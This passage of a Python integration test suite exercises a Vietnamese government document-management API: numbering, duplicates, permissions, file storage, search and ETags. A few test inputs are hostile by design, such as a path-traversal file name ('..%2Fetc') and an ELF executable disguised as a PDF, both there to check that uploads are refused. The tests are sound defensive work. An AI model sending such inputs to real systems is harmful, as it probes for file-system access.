    problem(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "x", "assignments": [
        {"unit_id": unit, "user_id": uid("stp.chuyenvien"), "role": "main"}]}), 400, "invalid-field")
    problem(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "x", "assignments": [
        {"role": "main"}]}), 400, "invalid-field")


def test_a_person_named_twice_in_one_direction_is_refused_and_nothing_changes():
    """One person as main handler and coordinator (directly, or as the head
    of a unit named) could never finish both parts: refused, either way
    round, and the document stays as it was."""
    inc = incoming(subject="Công văn giao hai lần một người")["id"]
    ok(post("stp.vanthu", f"/api/v1/documents/{inc}/present", {"leader_id": uid("stp.giamdoc")}))
    unit = int(psql("SELECT id FROM units WHERE abbr = 'XDKTVB' AND agency_id = (SELECT id FROM agencies WHERE code = '000.00.21.H19')"))
    head, official = uid("stp.truongphong"), uid("stp.chuyenvien")
    before = ok(call("GET", f"/api/v1/documents/{inc}", token=tok("stp.giamdoc")))
    for assignments in (
            [{"user_id": official, "role": "main"}, {"user_id": official, "role": "coordinate"}],
            [{"user_id": official, "role": "coordinate"}, {"user_id": official, "role": "main"}],
            [{"unit_id": unit, "role": "main"}, {"user_id": head, "role": "coordinate"}],
            [{"user_id": head, "role": "coordinate"}, {"unit_id": unit, "role": "main"}],
            [{"user_id": head, "role": "main"}, {"unit_id": unit, "role": "info"}]):
        r = post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "Giao.", "assignments": assignments})
        problem(r, 422, "person-named-twice")
        assert "hai lần" in r.json["detail"] and r.json["errors"][0]["pointer"].startswith("/assignments/"), r.json
    after = ok(call("GET", f"/api/v1/documents/{inc}", token=tok("stp.giamdoc")))
    assert after["status"] == "presented" and after["assignments"] == [] and after["version"] == before["version"]
    # named once each, the same people can finish and the document is done
    ok(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "Giao.", "assignments": [
        {"user_id": official, "role": "main"}, {"user_id": head, "role": "coordinate"}]}))
    ok(post("stp.truongphong", f"/api/v1/documents/{inc}/progress", {"action": "finish"}))
    assert ok(post("stp.chuyenvien", f"/api/v1/documents/{inc}/progress", {"action": "finish"}))["status"] == "done"


def test_a_document_registered_before_is_a_warning_the_clerk_confirms_never_a_block():
    tag = uuid.uuid4().hex[:6]
    base = {"type_code": "QD", "subject": f"Quyết định {tag}", "number_notation": f"{tag[:3]}7/QĐ-UBND",
            "doc_date": "2026-10-02", "issuer_name": "Ủy ban nhân dân tỉnh Đồng Nai", "external_id": f"edxml-{tag}"}
    count = lambda: int(psql(f"SELECT count(*) FROM documents WHERE subject LIKE 'Quyết định {tag}%'"))
    first = ok(post("stp.vanthu", "/api/v1/documents/incoming", base), 201)
    for again in (base,                                                            # the same electronic id
                  dict(base, external_id=None, number_notation=base["number_notation"].lower(),
                       issuer_name="ỦY BAN NHÂN DÂN TỈNH ĐỒNG NAI"),                 # same number, notation, issuer
                  dict(base, external_id=None, number_notation=base["number_notation"].replace("Đ", "\u00d0")),
                  dict(base, number_notation="999/CV-KHAC", external_id=base["external_id"])):
        body = {k: v for k, v in again.items() if v is not None}
        r = post("stp.vanthu", "/api/v1/documents/incoming", body)
        problem(r, 409, "possible-duplicate")
        assert r.json["duplicate_of"]["id"] == first["id"], r.json
        assert r.json["duplicate_of"]["book_number"] == first["book"]["number"]
    assert count() == 1
    # another year is another document; the clerk may confirm a duplicate
    ok(post("stp.vanthu", "/api/v1/documents/incoming",
            dict(base, external_id=None, doc_date="2025-10-02", subject=f"Quyết định {tag} năm trước")), 201)
    confirmed = ok(post("stp.vanthu", "/api/v1/documents/incoming", dict(base, duplicate_ok=True),
                        headers={"Idempotency-Key": str(uuid.uuid4())}), 201)
    assert confirmed["book"]["number"] != first["book"]["number"] and count() == 3
    # notations of every shape are taken as written, number and notation apart
    for shape, number, notation in (("15/2025/QĐ-UBND", "15", "2025/QĐ-UBND"), ("80-NQ/TW", "80", "NQ/TW"),
                                    ("30/2020/NĐ-CP", "30", "2020/NĐ-CP")):
        body = {k: v for k, v in dict(base, number_notation=shape, subject=f"Quyết định {tag} {shape}").items()
                if k != "external_id"}
        d = ok(post("stp.vanthu", "/api/v1/documents/incoming", body), 201)
        assert (d["number_notation"], d["number"], d["notation"]) == (shape, number, notation), d
    given = {k: v for k, v in dict(base, number_notation="07 / UBND-KT", number="07", notation="UBND-KT",
                                   subject=f"Quyết định {tag} tách").items() if k != "external_id"}
    d = ok(post("stp.vanthu", "/api/v1/documents/incoming", given), 201)
    assert (d["number_notation"], d["number"], d["notation"]) == ("07 / UBND-KT", "07", "UBND-KT")
    # the issuer is an agency of the directory or a free name, never a free code
    problem(post("stp.vanthu", "/api/v1/documents/incoming",
                 dict(base, external_id=None, number_notation="1/X", issuer_code="000.00.99.H19")), 422, "invalid-value")
    ok(post("stp.vanthu", "/api/v1/documents/incoming",
            dict(base, external_id=None, number_notation="2/X", issuer_code="000.00.23.H19",
                 subject=f"Quyết định {tag} có mã")), 201)
    problem(post("stp.vanthu", "/api/v1/documents/incoming", dict(base, duplicate_ok="yes")), 400, "invalid-field")
    # number and notation given apart must say what number_notation says
    before = count()
    problem(post("stp.vanthu", "/api/v1/documents/incoming",
                 dict(given, number="99", notation="QĐ-XYZ", subject=f"Quyết định {tag} trái")), 422, "invalid-value")
    assert count() == before
    # the confirmed duplicate remembers what it looked like, and the register says so
    today = datetime.datetime.now(datetime.timezone(datetime.timedelta(hours=7))).date().isoformat()
    reg = call("GET", f"/api/v1/registers/in?from={today}&to={today}", token=tok("stp.vanthu")).body.decode("utf-8")
    assert f"Trùng văn bản đến số {first['book']['number']}/" in reg


def test_the_paper_original_of_a_copy_received_electronically_is_a_possible_duplicate():
    issued = _issue_doc(subject="Quyết định gửi điện tử, rồi gửi giấy")
    copy = int(psql(f"SELECT delivered_id FROM document_recipients WHERE document_id = {issued['id']}"
                    " AND agency_id IS NOT NULL"))
    reg = ok(post("stttt.vanthu", f"/api/v1/documents/{copy}/register"))
    assert (reg["number"], reg["notation"]) == (issued["number_notation"].split("/", 1)[0],
                                                issued["number_notation"].split("/", 1)[1])
    paper = {"type_code": "QD", "subject": "Quyết định (bản giấy)", "number_notation": issued["number_notation"],
             "doc_date": issued["doc_date"], "issuer_name": "Sở Tư pháp", "issuer_code": "000.00.21.H19"}
    r = post("stttt.vanthu", "/api/v1/documents/incoming", paper)
    problem(r, 409, "possible-duplicate")
    assert r.json["duplicate_of"]["id"] == copy


def test_fifty_concurrent_registrations_get_fifty_consecutive_numbers():
    t = tok("stp.vanthu")

    def one(i):
        return call("POST", "/api/v1/documents/incoming", token=t, body={
            "type_code": "TB", "subject": f"Thông báo số {i}", "number_notation": f"{i}/TB-UBND",
            "doc_date": "2026-11-21", "issuer_name": "Ủy ban nhân dân tỉnh Đồng Nai"})

    with concurrent.futures.ThreadPoolExecutor(max_workers=25) as pool:
        rs = list(pool.map(one, range(50)))
    assert all(r.status == 201 for r in rs), [r for r in rs if r.status != 201][:3]
    numbers = sorted(r.json["book"]["number"] for r in rs)
    assert numbers == list(range(numbers[0], numbers[0] + 50)), numbers
    assert len({r.json["book"]["id"] for r in rs}) == 1


def test_a_rolled_back_registration_leaves_no_gap():
    first = incoming()["book"]["number"]
    clerk = uid("stp.vanthu")
    # the registration the API runs, rolled back inside one transaction
    out = psql(f"BEGIN; SELECT (doc_register_incoming({clerk}, '{{\"type_code\":\"CV\",\"subject\":\"x\","
               f"\"number_notation\":\"1/X\",\"doc_date\":\"2026-11-01\",\"issuer_name\":\"X\"}}'::jsonb)); ROLLBACK;")
    assert out
    assert incoming()["book"]["number"] == first + 1


def test_numbers_restart_at_midnight_of_new_year_in_vietnam():
    book = psql("SELECT b.id FROM books b JOIN agencies a ON a.id = b.agency_id"
                " WHERE a.code = '000.00.45.H19' AND direction = 'in'")
    take = lambda at: psql(f"BEGIN; SELECT year, number FROM book_take_number({book}, '{at}'); COMMIT;")
    assert take("2030-12-31T16:59:58Z") == "2030|1"
    assert take("2030-12-31T16:59:59Z") == "2030|2"
    assert take("2030-12-31T17:00:00Z") == "2031|1"          # 00:00 on 1 January in Hà Nội time
    assert take("2031-01-01T08:00:00+07:00") == "2031|2"
    psql(f"DELETE FROM book_counters WHERE book_id = {book} AND year IN (2030, 2031)")


def _issue(subject):
    return _issue_doc(subject=subject)


def test_numbers_keep_every_digit_from_the_hundredth_document_on():
    """Decree 30: a leading zero below 10 only. Numbers 120 and 121 were
    both issued as 12/QĐ-STP when the number was cut to two digits."""
    shown = {n: psql(f"SELECT book_number_text({n})") for n in (1, 9, 10, 99, 100, 1000, 10000)}
    assert shown == {1: "01", 9: "09", 10: "10", 99: "99", 100: "100", 1000: "1000", 10000: "10000"}, shown
    book = psql("SELECT b.id FROM books b JOIN agencies a ON a.id = b.agency_id"
                " WHERE a.code = '000.00.21.H19' AND direction = 'out'")
    year = psql("SELECT extract(year FROM qlvb_now() AT TIME ZONE 'Asia/Ho_Chi_Minh')::int")
    psql(f"INSERT INTO book_counters AS c (book_id, year, last_number) VALUES ({book}, {year}, 119)"
         f" ON CONFLICT (book_id, year) DO UPDATE SET last_number = greatest(c.last_number, 119)")
    first = _issue("Quyết định số một trăm hai mươi")
    second = _issue("Quyết định số một trăm hai mươi mốt")
    n = first["book"]["number"]
    assert first["number_notation"] == f"{n}/QĐ-STP" and n >= 120, first["number_notation"]
    assert second["number_notation"] == f"{n + 1}/QĐ-STP", second["number_notation"]
    copy = psql(f"SELECT d.number_notation FROM document_recipients r JOIN documents d ON d.id = r.delivered_id"
                f" WHERE r.document_id = {first['id']}")
    assert copy == first["number_notation"]


def test_the_database_refuses_an_outgoing_notation_twice_in_an_agency_and_year():
    a = _issue("Quyết định thứ nhất")
    b = _issue("Quyết định thứ hai")
    for same in (a["number_notation"], a["number_notation"].lower(),
                 a["number_notation"].replace("Đ", "\u00d0")):
        r = subprocess.run(["setpriv", "--reuid=qlvb", "--regid=qlvb", "--init-groups", "--", "psql", "-h",
                            f"{VAR}/run", "-p", str(PORT + 10), "-U", "qlvb", "-d", "qlvb", "-Atqc",
                            f"UPDATE documents SET number_notation = E'{same}' WHERE id = {b['id']}"],
                           capture_output=True, text=True)
        assert r.returncode != 0 and "documents_out_notation_unique" in r.stderr, (same, r.stderr)
    assert ok(call("GET", f"/api/v1/documents/{b['id']}", token=tok("stp.vanthu")))["number_notation"] == b["number_notation"]


def test_state_secrets_are_refused_saying_why_and_where_they_are_kept():
    """Mật, Tối mật, Tuyệt mật: registering or drafting is refused (the law
    keeps state secrets off networked computers), nothing is written, and
    the database itself refuses a secrecy mark."""
    count = lambda: int(psql("SELECT count(*) FROM documents"))
    n = count()
    for level in (1, 2, 3):
        r = post("stp.vanthu", "/api/v1/documents/incoming", {
            "type_code": "CV", "subject": "Văn bản mật về công tác bảo vệ bí mật nhà nước",
            "number_notation": "12/CA-PV01", "doc_date": "2026-11-20", "issuer_name": "Công an tỉnh", "secrecy": level})
        problem(r, 422, "state-secret")
        assert "117/2025/QH15" in r.json["detail"] and "hệ thống văn bản mật riêng" in r.json["detail"], r.json
        problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", {
            "type_code": "BC", "subject": "Báo cáo mật", "secrecy": level,
            "recipients": [{"agency_code": "000.00.23.H19"}]}), 422, "state-secret")
    assert count() == n
    assert psql("SELECT count(*) FROM books WHERE name LIKE '%mật%'") == "0"
    r = subprocess.run(["setpriv", "--reuid=qlvb", "--regid=qlvb", "--init-groups", "--", "psql", "-h",
                        f"{VAR}/run", "-p", str(PORT + 10), "-U", "qlvb", "-d", "qlvb", "-Atqc",
                        "UPDATE documents SET secrecy = 1 WHERE id = (SELECT max(id) FROM documents)"],
                       capture_output=True, text=True)
    assert r.returncode != 0 and "documents_no_state_secrets" in r.stderr, r.stderr


def test_who_sees_a_draft_within_and_across_agencies():
    r = admin("create-user", "stp.chuyenvien2", "Trần Văn Bình", "000.00.21.H19", "official", "Chuyên viên",
              "", "XDKTVB", stdin="another-pass-1\n")
    assert r.returncode == 0, r.stderr
    other = tokens("stp.chuyenvien2", "another-pass-1")["access_token"]
    doc = draft(subject="Dự thảo riêng của chuyên viên")["id"]
    problem(call("GET", f"/api/v1/documents/{doc}", token=other), 404, "document-not-found")
    for u in ("stp.vanthu", "stp.giamdoc", "stp.chuyenvien"):        # the agency's books, the author
        assert call("GET", f"/api/v1/documents/{doc}", token=tok(u)).status == 200, u
    for u in ("stttt.vanthu", "stttt.giamdoc", "vp.chuyenvien"):
        problem(call("GET", f"/api/v1/documents/{doc}", token=tok(u)), 404, "document-not-found")
    problem(call("GET", "/api/v1/documents/999999999", token=tok("stp.chuyenvien")), 404, "document-not-found")
    problem(call("GET", "/api/v1/documents/abc", token=tok("stp.chuyenvien")), 404)
    # an official of the agency has it only through work that reaches them
    ok(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit"))
    assert call("GET", f"/api/v1/documents/{doc}", token=tok("stp.truongphong")).status == 200
    problem(call("GET", f"/api/v1/documents/{doc}", token=other), 404)


def test_files_keep_versions_are_sniffed_and_served_only_to_those_who_see_the_document():
    doc = draft(subject="Dự thảo có tệp đính kèm")["id"]
    up = lambda data, name, kind="body", user="stp.chuyenvien": call(
        "POST", f"/api/v1/documents/{doc}/files?kind={kind}&name={name}", token=tok(user), raw=data,
        content_type="application/pdf")
    v1 = ok(up(PDF, "du-thao.pdf"), 201)
    v2 = ok(up(PDF + b"% v2\n", "du-thao.pdf"), 201)
    assert (v1["version"], v2["version"]) == (1, 2)
    img = ok(up(PNG, "so-do.pdf", "attachment"), 201)
    assert img["mime"] == "image/png"                       # what the bytes are, not what was claimed
    problem(up(b"\x7fELF\x02\x01\x01" + b"\0" * 64, "x.pdf"), 415, "unsupported-file-type")
    problem(up(b"", "empty.pdf"), 400)
    problem(up(PDF, "..%2Fetc"), 400)
    problem(up(PDF, "a.pdf", kind="other"), 400)
    problem(up(PDF, "a.pdf", user="stp.vanthu"), 403)
    problem(up(PDF, "a.pdf", user="stttt.vanthu"), 404)
    problem(up(b"%PDF-1.4\n" + b"0" * (3 << 20), "big.pdf"), 413)
    for v, data in ((v1, PDF), (v2, PDF + b"% v2\n"), (img, PNG)):
        r = call("GET", f"/api/v1/files/{v['id']}", token=tok("stp.chuyenvien"))
        assert r.status == 200 and r.body == data, r
        assert hashlib.sha256(r.body).hexdigest() == v["sha256"]
        assert r.headers["content-type"] == v["mime"]
        assert "attachment" in r.headers["content-disposition"]
    for u in ("stttt.vanthu", "stttt.chuyenvien"):
        problem(call("GET", f"/api/v1/files/{v1['id']}", token=tok(u)), 404)
    problem(call("GET", f"/api/v1/files/{v1['id']}"), 401)
    assert request("GET", f"/_store/{v1['sha256'][:2]}/{v1['sha256'][2:4]}/{v1['sha256']}").status == 404
    files = ok(call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien")))["files"]
    assert [(f["name"], f["version"]) for f in files if f["kind"] == "body"] == [("du-thao.pdf", 1), ("du-thao.pdf", 2)]


def test_store_check_finds_a_flipped_byte_the_download_refuses_it_and_an_upload_mends_it():
    d = draft(subject="Dự thảo để kiểm tra kho tệp")["id"]
    content = PDF + b"% bytes that will be damaged " + uuid.uuid4().hex.encode() + b"\n"
    up = ok(call("POST", f"/api/v1/documents/{d}/files?kind=body&name=kho.pdf", token=tok("stp.chuyenvien"),
                 raw=content, content_type="application/pdf"), 201)
    sha = up["sha256"]
    path = os.path.join(VAR, "store", sha[:2], sha[2:4], sha)
    assert request("GET", f"/api/v1/files/{up['id']}", token=tok("stp.chuyenvien")).body == content
    with open(path, "r+b") as f:                      # one byte flips on disk
        f.seek(10)
        b = f.read(1)
        f.seek(10)
        f.write(bytes([b[0] ^ 0x01]))
    # old leftovers: a temporary file and bytes nobody references; a fresh one stays
    old_tmp = path + ".crashed.tmp"
    stray = os.path.join(VAR, "store", sha[:2], sha[2:4], "f" * 64)
    fresh_tmp = path + ".running.tmp"
    for p in (old_tmp, stray, fresh_tmp):
        with open(p, "wb") as f:
            f.write(b"x")
    for p in (old_tmp, stray):
        os.utime(p, (time.time() - 7200, time.time() - 7200))
    store = {"QLVB_STORE_DIR": os.path.join(VAR, "store")}
    r = admin("store-check", env_extra=store)
    assert r.returncode == 3, (r.returncode, r.stdout, r.stderr)
    assert f"DAMAGED {sha}" in r.stdout and re.search(r"\d+ of \d+ checked", r.stdout), r.stdout
    assert not os.path.exists(old_tmp) and not os.path.exists(stray) and os.path.exists(fresh_tmp)
    os.unlink(fresh_tmp)
    problem(call("GET", f"/api/v1/files/{up['id']}", token=tok("stp.chuyenvien")), 409, "file-damaged")
    # the right bytes uploaded again mend it, for every version that names them
    again = ok(call("POST", f"/api/v1/documents/{d}/files?kind=body&name=kho.pdf", token=tok("stp.chuyenvien"),
                    raw=content, content_type="application/pdf"), 201)
    assert again["sha256"] == sha
    for fid in (up["id"], again["id"]):
        got = call("GET", f"/api/v1/files/{fid}", token=tok("stp.chuyenvien"))
        assert got.status == 200 and got.body == content
    r = admin("store-check", env_extra=store)
    assert r.returncode == 0 and "0 damaged" in r.stdout, r.stdout


def test_search_is_accent_insensitive_visible_only_and_paginated():
    mark = uuid.uuid4().hex[:8]
    a = draft(subject=f"Quyết định phê duyệt đề án số hóa {mark}")["id"]
    b = draft(subject=f"Quyết định ban hành quy chế {mark}")["id"]
    found = ok(call("GET", f"/api/v1/documents?q={quote('quyet dinh ' + mark)}", token=tok("stp.chuyenvien")))
    assert [] == [i for i in found["items"] if i["id"] not in (a, b)]
    found = ok(call("GET", f"/api/v1/documents?q={quote('QUYẾT ĐỊNH phê duyệt')}", token=tok("stp.chuyenvien")))
    assert a in [i["id"] for i in found["items"]] and b not in [i["id"] for i in found["items"]]
    page1 = ok(call("GET", f"/api/v1/documents?q={mark}&limit=1", token=tok("stp.chuyenvien")))
    assert [i["id"] for i in page1["items"]] == [b] and page1["next_cursor"]
    page2 = ok(call("GET", f"/api/v1/documents?q={mark}&limit=1&cursor={page1['next_cursor']}",
                    token=tok("stp.chuyenvien")))
    assert [i["id"] for i in page2["items"]] == [a] and page2["next_cursor"] is None
    assert ok(call("GET", f"/api/v1/documents?q={mark}", token=tok("stttt.chuyenvien")))["items"] == []
    problem(call("GET", "/api/v1/documents?limit=1000", token=tok("stp.chuyenvien")), 400, "invalid-parameter")
    # cursors are opaque: a document id is not one
    assert not page1["next_cursor"].isdigit(), page1["next_cursor"]
    problem(call("GET", "/api/v1/documents?q=%20%20%20", token=tok("stp.chuyenvien")), 400, "invalid-parameter")
    for bad in ("x1", str(b), "aQ", "aTE="):         # aQ is "i" alone; a padded cursor is not one given
        problem(call("GET", f"/api/v1/documents?cursor={bad}", token=tok("stp.chuyenvien")), 400, "invalid-parameter")
    problem(call("GET", "/api/v1/documents?q=a", token=tok("stp.chuyenvien")), 400, "invalid-parameter")
    assert ok(call("GET", "/api/v1/documents?q=xuan%20loc", token=tok("stp.vanthu")))["items"]   # issuer name
    # every word, in any order; items say their type and agency
    found = ok(call("GET", f"/api/v1/documents?q={quote(mark + ' đề án phê duyệt')}", token=tok("stp.chuyenvien")))
    assert [i["id"] for i in found["items"]] == [a]
    assert found["items"][0]["type"] == {"code": "QD", "name": "Quyết định"}
    assert found["items"][0]["agency"] == {"code": "000.00.21.H19", "name": "Sở Tư pháp"}
    assert ok(call("GET", f"/api/v1/documents?q={quote(mark + ' quy chế số hóa')}", token=tok("stp.chuyenvien")))[
        "items"] == []                                                        # words of two documents
    # % and _ are characters, not wildcards
    c = draft(subject=f"Báo cáo tỷ lệ 100% số_hóa {mark}")["id"]
    for q, want in ((f"{mark} 100%", [c]), (f"{mark} số_hóa", [c]), (f"{mark} %", [c]), (f"{mark} _", [c]),
                    (f"{mark} 1_0", []), (f"{mark} q%t", [])):
        got = [i["id"] for i in ok(call("GET", f"/api/v1/documents?q={quote(q)}", token=tok("stp.chuyenvien")))["items"]]
        assert got == want, (q, got)


def test_etags_answer_304_until_something_changes():
    doc = draft(subject="Văn bản để thử ETag")["id"]
    r = ok(call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien")))
    etag = call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien")).headers["etag"]
    r = call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien"), headers={"If-None-Match": etag})
    assert r.status == 304 and r.body == b"" and r.headers["etag"] == etag
    ok(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit"))
    r = call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien"), headers={"If-None-Match": etag})
    assert r.status == 200 and r.headers["etag"] != etag
    # the inbox page of the head who just got it
    r1 = call("GET", "/api/v1/inbox?box=approve", token=tok("stp.truongphong"))
    et = r1.headers["etag"]
    assert call("GET", "/api/v1/inbox?box=approve", token=tok("stp.truongphong"),
                headers={"If-None-Match": et}).status == 304
    assert call("GET", "/api/v1/inbox?box=process", token=tok("stp.truongphong"),
                headers={"If-None-Match": et}).status == 200                      # another page
    ok(post("stp.truongphong", f"/api/v1/documents/{doc}/approve"))
    assert call("GET", "/api/v1/inbox?box=approve", token=tok("stp.truongphong"),
                headers={"If-None-Match": et}).status == 200
    problem(call("GET", f"/api/v1/documents/{doc}", token=tok("stttt.vanthu"), headers={"If-None-Match": etag}), 404)


def test_inbox_etag_changes_when_someone_else_moves_your_items():
    doc = draft(subject="Văn bản chờ ký")["id"]
    ok(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit"))
    ok(post("stp.truongphong", f"/api/v1/documents/{doc}/approve"))
    ok(post("stp.giamdoc", f"/api/v1/documents/{doc}/approve"))
    t = tok("stp.giamdoc")
    first = call("GET", "/api/v1/inbox?box=approve&limit=100", token=t)
    assert doc in [doc_id(i) for i in first.json["items"]]
    etag = first.headers["etag"]
    for _ in range(3):        # answered from the cached version
        assert call("GET", "/api/v1/inbox?box=approve&limit=100", token=t, headers={"If-None-Match": etag}).status == 304
    # the leader's own 'sign' item is moved by the signing statement
    ok(post("stp.giamdoc", f"/api/v1/documents/{doc}/sign"))
    r = call("GET", "/api/v1/inbox?box=approve&limit=100", token=t, headers={"If-None-Match": etag})
    assert r.status == 200 and doc not in [doc_id(i) for i in r.json["items"]]
    v = tok("stp.vanthu")
    e2 = call("GET", "/api/v1/inbox?box=process&limit=100", token=v).headers["etag"]
    assert call("GET", "/api/v1/inbox?box=process&limit=100", token=v, headers={"If-None-Match": e2}).status == 304
    # another clerk's work moves nothing of hers, a new document does
    ok(post("stp.vanthu", f"/api/v1/documents/{doc}/issue"))
    assert call("GET", "/api/v1/inbox?box=process&limit=100", token=v, headers={"If-None-Match": e2}).status == 200


def _conditional(user, box, etag):
    return call("GET", f"/api/v1/inbox?box={box}&limit=100", token=tok(user), headers={"If-None-Match": etag})


def _shown(page, doc):
    return next(i for i in page.json["items"] if doc_id(i) == doc)


def test_every_change_an_inbox_page_shows_changes_every_holders_etag():
    """Another person finishing the document, and changes of its number,
    subject, urgency and deadline, reach every holder's next conditional
    GET as 200 with the new value; so does a deadline passing."""
    due = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=2)).isoformat()
    doc = incoming(subject="Công văn lấy ý kiến dự thảo nghị quyết")["id"]
    ok(post("stp.vanthu", f"/api/v1/documents/{doc}/present", {"leader_id": uid("stp.giamdoc")}))
    ok(post("stp.giamdoc", f"/api/v1/documents/{doc}/direct", {"note": "Giao xử lý.", "assignments": [
        {"user_id": uid("stp.chuyenvien"), "role": "main", "deadline": due},
        {"user_id": uid("stp.truongphong"), "role": "coordinate", "deadline": due}]}))

    def etag_of(user):
        page = call("GET", "/api/v1/inbox?box=process&limit=100", token=tok(user))
        assert _conditional(user, "process", page.headers["etag"]).status == 304
        return page.headers["etag"]

    # subject and urgency change through no endpoint yet: whoever changes
    # them, every holder's inbox version moves in PostgreSQL
    for change in ("subject = 'Công văn lấy ý kiến (sửa trích yếu)'", "urgency = 2"):
        holders = f"SELECT string_agg(inbox_version::text, ',' ORDER BY id) FROM users WHERE id IN ({uid('stp.chuyenvien')}, {uid('stp.truongphong')}, {uid('stp.giamdoc')}, {uid('stp.vanthu')})"
        before = [int(v) for v in psql(holders).split(",")]
        psql(f"UPDATE documents SET {change} WHERE id = {doc}")
        after = [int(v) for v in psql(holders).split(",")]
        assert all(a == b + 1 for a, b in zip(after, before)), (change, before, after)

    later = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=1)).isoformat()
    etag = etag_of("stp.truongphong")
    ok(post("stp.giamdoc", f"/api/v1/documents/{doc}/direct", {"note": "Rút ngắn hạn.", "assignments": [
        {"user_id": uid("stp.chuyenvien"), "role": "main", "deadline": later},
        {"user_id": uid("stp.truongphong"), "role": "coordinate", "deadline": later}]}))
    r = _conditional("stp.truongphong", "process", etag)
    assert r.status == 200, r
    shown = datetime.datetime.fromisoformat(_shown(r, doc)["deadline"])
    assert abs((shown - datetime.datetime.fromisoformat(later)).total_seconds()) < 0.001, (shown, later)

    # the number a clerk gives at issue reaches a reviewer's done page
    out = draft(subject="Công văn trả lời, theo dõi số")["id"]
    ok(post("stp.chuyenvien", f"/api/v1/documents/{out}/submit"))
    ok(post("stp.truongphong", f"/api/v1/documents/{out}/approve"))
    ok(post("stp.giamdoc", f"/api/v1/documents/{out}/approve"))
    ok(post("stp.giamdoc", f"/api/v1/documents/{out}/sign"))
    done = call("GET", "/api/v1/inbox?box=done&limit=100", token=tok("stp.truongphong"))
    assert _shown(done, out)["document"]["number_notation"] is None
    issued = ok(post("stp.vanthu", f"/api/v1/documents/{out}/issue"))
    r = _conditional("stp.truongphong", "done", done.headers["etag"])
    assert r.status == 200 and _shown(r, out)["document"]["number_notation"] == issued["number_notation"], r

    # the main handler finishes: the coordinator's page shows the document done
    etag = etag_of("stp.truongphong")
    ok(post("stp.chuyenvien", f"/api/v1/documents/{doc}/progress", {"action": "finish"}))
    r = _conditional("stp.truongphong", "process", etag)
    assert r.status == 200 and _shown(r, doc)["document"]["status"] == "done", r

    # a deadline passing changes the page with no write at all
    etag = etag_of("stp.truongphong")
    with clock_moved(3 * 86400):
        r = wait_for(lambda: (lambda x: x if x.status == 200 else None)(
            call("GET", "/api/v1/inbox?box=process&limit=100", token=tokens("stp.truongphong")["access_token"],
                 headers={"If-None-Match": etag})), 5)
        assert r and _shown(r, doc)["overdue"] is True, r


def test_a_cached_inbox_state_never_goes_back_to_an_older_version():
    """A reader that computed an older state cannot put it over a newer one
    that Redis holds (a writer's), whatever the order they arrive in."""
    user = uid("stp.vanthu")
    key = f"qlvb:inbox:{user}"
    redis = lambda *a: subprocess.run(["redis-cli", "-s", f"{VAR}/run/redis.sock", *a],
                                      capture_output=True, text=True, check=True).stdout.strip()
    # a newer version than PostgreSQL's, whose next deadline has passed:
    # the reader must go to PostgreSQL, and must not store what it found
    redis("SET", key, "999999999 0 1", "EX", "60")
    page = call("GET", "/api/v1/inbox?box=process", token=tok("stp.vanthu"))
    assert page.status == 200
    assert redis("GET", key) == "999999999 0 1"
    redis("DEL", key)
    page = call("GET", "/api/v1/inbox?box=process", token=tok("stp.vanthu"))
    stored = redis("GET", key).split()
    assert len(stored) == 3 and int(stored[0]) < 999999999 and f"-{stored[0]}-" in page.headers["etag"], (stored, page.headers)


def test_a_hundred_crossing_pairs_issue_at_once_without_a_failure():
    """Agency A issuing to B while B issues to A, a hundred pairs at once:
    no deadlock, no 500."""
    stp = _prepare("stp.chuyenvien", "stp.truongphong", "stp.giamdoc", "000.00.23.H19", 100)
    stttt = _prepare("stttt.chuyenvien", "stttt.truongphong", "stttt.giamdoc", "000.00.21.H19", 100)
    jobs = [("stp.vanthu", d) for d in stp] + [("stttt.vanthu", d) for d in stttt]
    jobs = [j for pair in zip(jobs[:100], jobs[100:]) for j in pair]
    toks = {u: tok(u) for u in ("stp.vanthu", "stttt.vanthu")}
    with concurrent.futures.ThreadPoolExecutor(max_workers=16) as pool:
        rs = list(pool.map(lambda j: request("POST", f"/api/v1/documents/{j[1]}/issue", token=toks[j[0]], body={}), jobs))
    bad = [r for r in rs if r.status != 200]
    assert not bad, f"{len(bad)} of {len(rs)} failed: {bad[:3]}"
    assert len({r.json["number_notation"] for r in rs}) == 200


def _prepare(author, head, leader, recipient, n):
    """n signed drafts of author's agency to recipient, made through the
    workflow functions as the people who take each step."""
    ids = psql(
        "SELECT string_agg(d::text, ',') FROM ("
        " SELECT doc_create_draft(a, jsonb_build_object('type_code', 'CV', 'subject', 'Công văn chéo số ' || g,"
        f"   'recipients', jsonb_build_array(jsonb_build_object('agency_code', '{recipient}')))) d"
        f" FROM (SELECT id a FROM users WHERE username = '{author}') u, generate_series(1, {n}) g) x")
    ids = [int(x) for x in ids.split(",")]
    people = (f"unnest(ARRAY[{','.join(map(str, ids))}]::bigint[]) d,"
              f" (SELECT (SELECT id FROM users WHERE username = '{author}') a,"
              f"         (SELECT id FROM users WHERE username = '{head}') h,"
              f"         (SELECT id FROM users WHERE username = '{leader}') l) p")
    psql(";".join(f"SELECT count({step}) FROM {people}" for step in
                  ("doc_submit(a, d)", "doc_approve(h, d, NULL)", "doc_approve(l, d, NULL)", "doc_sign(l, d, NULL)")))
    return ids


def _signature(method, path, query, body):
    h = hashlib.sha256()
    h.update(method.encode() + b"\0" + path.encode() + b"\0" + query.encode() + b"\0" + body)
    return h.hexdigest()


def test_a_claim_whose_worker_died_is_taken_over_after_its_lease_and_acts_once():
    """A worker killed between claiming a key and acting leaves the claim:
    a retry answers 409 while its lease runs, then acts once, and keeps its
    answer (ETag included) for the next retry."""
    key = str(uuid.uuid4())
    body = {"type_code": "CV", "subject": f"Công văn đăng ký lại {key[:8]}", "number_notation": "88/UBND-VX",
